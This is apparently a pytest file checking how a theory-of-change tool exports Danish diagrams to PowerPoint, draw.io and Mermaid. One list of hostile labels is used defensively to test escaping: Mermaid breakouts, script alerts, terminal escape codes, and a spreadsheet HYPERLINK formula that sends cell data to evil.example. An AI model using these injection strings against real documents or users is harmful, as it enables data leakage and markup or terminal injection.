"""Issue #19: PowerPoint, draw.io and Mermaid, opened with real readers.

Run by ExportTests (Swift) with TOC set to the built binary:
python-pptx (PyPI) counts shapes, texts and glued connectors; LibreOffice
Impress (Debian, headless) converts the .pptx to PDF and pdftotext reads the
labels back; the .drawio parses and every edge names existing cells; the
Mermaid text passes a grammar of the subset toc writes, also for hostile
labels. With TOC_SCREENSHOTS=DIR, the first slide as LibreOffice draws it is
saved there (docs/rendering.md shows it).
"""
import glob
import os
import re
import shutil
import subprocess
import tempfile
import xml.etree.ElementTree as ET

import pytest
from pptx import Presentation

TOC = os.environ.get("TOC", ".build/debug/toc")
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BISPEHAVEN = os.path.join(ROOT, "theories", "helhedsplan-bispehaven.ft")
WORKSHOP = os.path.join(ROOT, "theories", "workshop-kladde.ft")
HEAD = re.compile(r"^(aktivitet|output|resultat|mål|activity|outcome|goal)\s+([^\s:]+)\s*:\s*(.*)$")


def render(theory, fmt, folder, extra=(), env=None):
    out = os.path.join(folder, "diagram." + {"mermaid": "mmd"}.get(fmt, fmt))
    result = subprocess.run([TOC, "render", theory, "-o", out, "--format", fmt, *extra],
                            capture_output=True, env=env)
    assert os.path.exists(out), result.stderr.decode()
    return out


def labels(theory):
    """The node ids and labels a theory declares, from its text."""
    found = {}
    for line in open(theory, encoding="utf-8"):
        match = HEAD.match(line.strip())
        if match:
            found[match.group(2)] = match.group(3).strip()
    return found


def drawn_edges(theory):
    """The edges the SVG draws between nodes, from the DOT text."""
    dot = subprocess.run([TOC, "render", theory, "-o", "-", "--format", "dot"], capture_output=True, text=True).stdout
    return set(re.findall(r'^  "([^"]+)" -> "([^"]+)"(?! \[style=invis)', dot, re.M))


def areas(theory):
    return [line.split(":")[0].split()[1] for line in open(theory, encoding="utf-8")
            if re.match(r"^(område|area)\s+\S+\s*:", line)]


@pytest.fixture()
def folder():
    path = tempfile.mkdtemp(prefix="toc-export-")
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_pptx_has_a_slide_per_area_native_shapes_and_glued_connectors(folder):
    deck = Presentation(render(BISPEHAVEN, "pptx", folder))
    assert (deck.slide_width, deck.slide_height) == (12192000, 6858000)  # 16:9
    # The whole theory's slide only when its smallest text reads at 10 pt
    # (issue #24); Bispehaven's four areas are too many for that.
    wholes = [slide for slide in deck.slides if " – " not in slide.shapes[0].text_frame.text]
    assert len(wholes) == 0 and len(deck.slides) == len(areas(BISPEHAVEN))
    names = labels(BISPEHAVEN)
    for number, slide in enumerate(deck.slides):
        shapes = list(slide.shapes)
        by_id = {shape.shape_id: shape for shape in shapes}
        title = shapes[0].text_frame.text
        assert title.startswith("Boligsocial helhedsplan for Bispehaven")
        nodes = [shape for shape in shapes if shape.name in names]
        for shape in nodes:
            paragraphs = shape.text_frame.paragraphs
            assert paragraphs[0].text == names[shape.name]
            label_size = paragraphs[0].runs[0].font.size
            for paragraph in paragraphs[1:]:
                if paragraph.text.startswith("▸"):
                    assert paragraph.runs[0].font.size < label_size
        connectors = [shape for shape in shapes if shape.element.tag.endswith("}cxnSp")]
        assert connectors, f"slide {number + 1} has no arrows"
        for connector in connectors:
            start = connector.element.xpath(".//a:stCxn")
            end = connector.element.xpath(".//a:endCxn")
            assert start and end, "an arrow not glued to both ends"
            assert by_id[int(start[0].get("id"))].name in names or by_id[int(start[0].get("id"))].name.startswith("Junction")
            assert by_id[int(end[0].get("id"))].name in names or by_id[int(end[0].get("id"))].name.startswith("Junction")
        if number == 0 and wholes:
            assert {shape.name for shape in nodes} == set(names)
            glued = {(by_id[int(c.element.xpath(".//a:stCxn")[0].get("id"))].name,
                      by_id[int(c.element.xpath(".//a:endCxn")[0].get("id"))].name) for c in connectors}
            assert glued == drawn_edges(BISPEHAVEN)


def test_a_small_theory_fills_its_slide_with_text_of_10_pt_or_more(folder):
    path = os.path.join(folder, "lille.ft")
    open(path, "w", encoding="utf-8").write(
        "forandringsteori: Lille\naktivitet a: Lektiecafé\n  -> o\noutput o: 40 børn deltager\n  -> r\n"
        "resultat r: Børnene trives\n  indikator: Andel med høj trivsel\n    målværdi: 70 % (2026)\n  -> m\n"
        "mål m: Flere unge i uddannelse\n  indikator: Andel 25-årige\n    målværdi: 80 % (2027)\n")
    deck = Presentation(render(path, "pptx", folder))
    slide = deck.slides[0]
    boxes = [shape for shape in slide.shapes if shape.name in ("a", "o", "r", "m")]
    assert len(boxes) == 4
    left, right = min(b.left for b in boxes), max(b.left + b.width for b in boxes)
    top, bottom = min(b.top for b in boxes), max(b.top + b.height for b in boxes)
    assert (right - left) >= 0.8 * deck.slide_width or (bottom - top) >= 0.8 * deck.slide_height
    sizes = {}
    for box in boxes:
        for number, paragraph in enumerate(box.text_frame.paragraphs):
            size = paragraph.runs[0].font.size.pt
            assert size >= 10, (box.name, paragraph.text, size)
            sizes.setdefault("label" if number == 0 else "detail", set()).add(size)
    # One text size per kind of text.
    assert all(len(values) == 1 for values in sizes.values()), sizes


def test_findings_are_marked_unless_clean(folder):
    marked = Presentation(render(WORKSHOP, "pptx", folder)).slides[0]
    texts = [shape.text_frame.text for shape in marked.shapes if shape.has_text_frame]
    assert any("⚠" in text for text in texts)
    clean = Presentation(render(WORKSHOP, "pptx", folder, ["--clean"])).slides[0]
    assert not any("⚠" in shape.text_frame.text for shape in clean.shapes if shape.has_text_frame)


def test_libreoffice_converts_the_pptx_and_shows_the_labels(folder):
    pptx = render(BISPEHAVEN, "pptx", folder)
    result = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{folder}/lo", "--convert-to", "pdf",
                             "--outdir", folder, pptx], capture_output=True, text=True, timeout=180)
    pdf = os.path.join(folder, "diagram.pdf")
    assert result.returncode == 0 and os.path.exists(pdf), result.stdout + result.stderr
    info = subprocess.run(["pdfinfo", pdf], capture_output=True, text=True).stdout
    assert re.search(r"Pages:\s+%d\b" % len(areas(BISPEHAVEN)), info), info
    text = " ".join(subprocess.run(["pdftotext", pdf, "-"], capture_output=True, text=True).stdout.split())
    for label in labels(BISPEHAVEN).values():
        assert " ".join(label.split()) in text, label
    shots = os.environ.get("TOC_SCREENSHOTS")
    if shots:
        subprocess.run(["pdftoppm", "-r", "110", "-png", "-f", "3", "-l", "3", "-singlefile", pdf,
                        os.path.join(shots, "pptx-slide")], check=True)


def test_the_same_theory_gives_the_same_bytes(folder):
    first = open(render(BISPEHAVEN, "pptx", folder), "rb").read()
    elsewhere = dict(os.environ, TZ="America/Los_Angeles")
    second = open(render(BISPEHAVEN, "pptx", folder, env=elsewhere), "rb").read()
    assert first == second
    for fmt in ("drawio", "mermaid"):
        assert open(render(BISPEHAVEN, fmt, folder), "rb").read() == open(render(BISPEHAVEN, fmt, folder), "rb").read()


def test_drawio_cells_areas_and_edges(folder):
    tree = ET.parse(render(BISPEHAVEN, "drawio", folder))
    cells = {cell.get("id"): cell for cell in tree.iter("mxCell")}
    vertices = [cell for cell in cells.values() if cell.get("vertex") == "1"]
    edges = [cell for cell in cells.values() if cell.get("edge") == "1"]
    containers = [cell for cell in vertices if "container=1" in (cell.get("style") or "")]
    assert len(containers) == len(areas(BISPEHAVEN))
    nodes = [cell for cell in vertices if cell not in containers]
    assert len(nodes) == len(labels(BISPEHAVEN))
    assert all(cell.get("parent") in {c.get("id") for c in containers} for cell in nodes)
    assert edges and all(cell.get("source") in cells and cell.get("target") in cells for cell in edges)
    assert all(cells[cell.get("source")].get("vertex") == "1" for cell in edges)
    assert any("fillColor=#E3EFF9" in cell.get("style") for cell in nodes)
    for cell in vertices:
        geometry = cell.find("mxGeometry")
        assert float(geometry.get("width")) > 0 and float(geometry.get("height")) > 0
    # A box's geometry is relative to its area, and lies inside it.
    for cell in nodes:
        box, area = cell.find("mxGeometry"), cells[cell.get("parent")].find("mxGeometry")
        x, y, w, h = (float(box.get(k)) for k in ("x", "y", "width", "height"))
        assert 0 <= x and x + w <= float(area.get("width")) and 0 <= y and y + h <= float(area.get("height")), cell.get("id")


# The subset of Mermaid toc writes, line by line; Q is a quoted text.
Q = r'"([^"]*)"'
GRAMMAR = [re.compile(pattern) for pattern in [
    r"^---$", r'^title: "(?:[^"\\]|\\.)*"$', r"^flowchart (LR|TB)$",
    rf"^  subgraph a\d+\[{Q}\]$", r"^  end$",
    rf"^( {{2}}| {{4}})n\d+(\[{Q}\]|\[/{Q}/\]|\({Q}\)|\(\[{Q}\]\))$",
    r"^  n\d+ --> n\d+$", rf"^  n\d+ -- {Q} --> n\d+$",
    r"^  classDef (activity|output|outcome|goal|problem) [a-z-]+:[#\w]+(,[a-z-]+:[#\w]+)*$",
    r"^  class n\d+(,n\d+)* (activity|output|outcome|goal|problem)$",
]]
TAGS = re.compile(r"<br/>|</?small>|</?b>")
ENTITY = re.compile(r"#(\d+);")


def check_mermaid(text):
    """Every line in the grammar; every quoted text free of syntax."""
    quoted = []
    for line in text.splitlines():
        matches = [pattern.match(line) for pattern in GRAMMAR]
        assert any(matches), f"not in the grammar: {line!r}"
        quoted += [group for match in matches if match for group in match.groups() if group and line.count('"') >= 2
                   and group not in ("LR", "TB", "  ", "    ") and not group.startswith(("[", "(", ","))]
    for text in quoted:
        bare = ENTITY.sub("", TAGS.sub("", text))
        # What Mermaid's grammar reads inside quotes: the quote, a code's #,
        # HTML's < > &, a Markdown backtick and a directive's %%.
        assert not re.search(r'["#&<>`]|%%', bare), f"syntax left in {text!r}"
    return quoted


def unescape(text):
    return ENTITY.sub(lambda match: chr(int(match.group(1))), TAGS.sub("\n", text)).split("\n")[0]


def test_mermaid_is_in_the_grammar(folder):
    text = open(render(BISPEHAVEN, "mermaid", folder), encoding="utf-8").read()
    check_mermaid(text)
    assert text.count("subgraph") == len(areas(BISPEHAVEN))
    nodes = re.findall(r"^ +n\d+[\[(]", text, re.M)
    assert len(nodes) == len(labels(BISPEHAVEN))


HOSTILE = [
    'Slut"] --> x[Hacked', "end", "a --> b", "click n1 call alert(1)", "%%{init: {'theme':'dark'}}%%",
    "<script>alert(1)</script>", "#quot; & #35; &amp;", "`code` | pipe [bracket] {brace} (paren)",
    "linje 1\u2028linje 2", "æøå ÆØÅ 😀 — «citat»", "back\\slash; semi*star_under~tilde$dollar%pct=eq@at",
    "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"Open\")", "+Tryghed \u001b]0;PWNED\u0007\u001b[2J",
]


def corpus():
    """The bad-input corpus, as Tests/lsp/test_robust.py reads it (the
    fuzzer's own corpus only where it has been run: its first 300 files)."""
    paths = []
    for pattern, limit in [("Tests/BadInput/*", None), ("Tests/Regressions/*.ft", None), ("Fuzz/seeds/*", None),
                           ("Fuzz/corpus/pipeline/*", 300)]:
        paths += sorted(glob.glob(os.path.join(ROOT, pattern)))[:limit]
    return paths


def test_hostile_labels_stay_inside_their_quotes(folder):
    lines = ["forandringsteori: Fjendtlig \"titel\" --> x", "område o: Område \"] end", ""]
    for index, label in enumerate(HOSTILE):
        lines += [f"aktivitet a{index}: {label}", "  område: o", f"  -> m", "    antagelse: " + label]
    lines += ["mål m: Mål", "  indikator: I", "    målværdi: 1"]
    theory = os.path.join(folder, "fjendtlig.ft")
    open(theory, "w", encoding="utf-8").write("\n".join(lines) + "\n")
    drawio = ET.parse(render(theory, "drawio", folder))
    values = [cell.get("value") for cell in drawio.iter("mxCell") if cell.get("vertex") == "1"]
    assert len(values) == len(HOSTILE) + 2  # the area and the goal too
    assert not any("\u001b" in value for value in values)
    deck = Presentation(render(theory, "pptx", folder))
    texts = [shape.text_frame.text for shape in deck.slides[0].shapes if shape.has_text_frame]
    assert any("=HYPERLINK" in text for text in texts) and not any("\u001b" in text for text in texts)
    for path in [theory] + corpus():
        result = subprocess.run([TOC, "render", path, "-o", "-", "--format", "mermaid"], capture_output=True)
        if result.returncode == 2 or not result.stdout:
            continue  # a file that does not parse draws nothing
        text = result.stdout.decode("utf-8")
        check_mermaid(text)
        if path == theory:
            written = [unescape(q) for q in re.findall(r'^    n\d+\["([^"]*)"\]$', text, re.M)]
            # Control characters and line separators become spaces.
            expected = [" ".join(re.sub(r"[\x00-\x1f\x7f\u2028\u2029]", " ", label).split()) for label in HOSTILE]
            assert [" ".join(w.split()) for w in written] == expected
            assert len(re.findall(r"^  n\d+ (-->|-- \")", text, re.M)) == len(HOSTILE)


def test_a_report_as_slides_has_diagrams_then_findings_and_statuses(folder):
    vollsmose = os.path.join(ROOT, "theories", "helhedsplan-vollsmose.ft")
    measurements = os.path.join(ROOT, "theories", "helhedsplan-vollsmose.maalinger.csv")
    deck = os.path.join(folder, "rapport.pptx")
    subprocess.run([TOC, "report", vollsmose, WORKSHOP, "-o", deck, "--measurements", measurements, "--lang", "da"],
                   capture_output=True)
    titles, bodies = [], []
    for slide in Presentation(deck).slides:
        texts = [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame]
        titles.append(texts[0])
        bodies.append(texts[1] if len(texts) > 1 else "")
    words = [index for index, title in enumerate(titles) if title.startswith(("Fund:", "Status:"))]
    # Vollsmose: its diagram slides (area by area where the whole would read
    # under 10 pt), findings, status; the draft: its diagram, findings.
    assert [titles[index].split(":")[0] for index in words] == ["Fund", "Status", "Fund"], titles
    assert words[0] >= 2 and words[2] - words[1] >= 2 and words[2] == len(titles) - 1, titles
    assert "Ingen problemer fundet" in bodies[words[0]]
    # Issue #28: statuses as a chart, findings in plain words for a board.
    status = Presentation(deck).slides[words[1]]
    assert any(shape.has_chart for shape in status.shapes) and "fremgang mod målværdien" in titles[words[1]]
    assert "Aktivitet uden mål: «Bydelsmødre" in bodies[words[2]], bodies[words[2]]
    assert "linje" not in bodies[words[2]]
    per_theory = os.path.join(folder, "decks")
    subprocess.run([TOC, "report", os.path.join(ROOT, "theories", "akacieparken"), "-o", per_theory, "--format", "pptx"],
                   capture_output=True)
    assert sorted(os.listdir(per_theory)) == ["kriminalitetsforebyggelse.pptx", "sammenhaengskraft.pptx"]


def test_a_column_table_keeps_its_junctions_in_powerpoint_and_drawio(folder):
    """Issue #24: a bundle's junction is a small shape with glued connectors."""
    table = os.path.join(ROOT, "Tests", "Fixtures", "column-table.ft")
    deck = Presentation(render(table, "pptx", folder))
    slide = deck.slides[0]
    by_id = {shape.shape_id: shape for shape in slide.shapes}
    junctions = [shape for shape in slide.shapes if shape.name.startswith("Junction")]
    assert len(junctions) == 2
    ends = []
    for connector in [shape for shape in slide.shapes if shape.element.tag.endswith("}cxnSp")]:
        start = by_id[int(connector.element.xpath(".//a:stCxn")[0].get("id"))].name
        end = by_id[int(connector.element.xpath(".//a:endCxn")[0].get("id"))].name
        ends.append((start, end))
    assert len(ends) == 24  # 2 + 10 into and out of the first junction, 10 + 2 the second
    assert sum(1 for start, end in ends if end.startswith("Junction")) == 12
    drawio = ET.parse(render(table, "drawio", folder))
    cells = list(drawio.iter("mxCell"))
    assert len([c for c in cells if (c.get("id") or "").startswith("junction-") and c.get("vertex") == "1"]) == 2
    assert len([c for c in cells if c.get("edge") == "1"]) == 24


def test_a_deck_of_unreadable_theories_says_so(folder):
    """Issue #27: a report of theories none of which parse was no deck and no word; now its one slide names them."""
    broken = os.path.join(folder, "i-stykker.ft")
    with open(broken, "w", encoding="utf-8") as handle:
        handle.write("aktivitet lektiecafe Lektiecafé\n")
    deck = os.path.join(folder, "rapport.pptx")
    result = subprocess.run([TOC, "report", broken, "-o", deck, "--lang", "da"], capture_output=True, text=True)
    assert result.returncode == 1, result.stderr
    texts = [shape.text_frame.text for slide in Presentation(deck).slides for shape in slide.shapes if shape.has_text_frame]
    assert texts[0] == "Filer der ikke kunne læses", texts
    assert "i-stykker.ft, linje 1: der mangler ':' efter id'et 'lektiecafe'" in texts[1], texts
